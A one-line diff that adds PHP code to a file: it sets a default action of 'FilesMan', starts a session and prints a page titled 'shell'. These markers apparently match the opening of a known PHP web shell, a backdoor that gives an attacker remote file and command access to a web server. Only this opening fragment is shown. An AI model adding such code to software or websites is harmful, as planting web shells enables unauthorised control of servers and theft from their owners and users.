@@ -1,0 +1,1 @@
+<?php $default_action = 'FilesMan'; @session_start(); echo "<title>shell</title>";
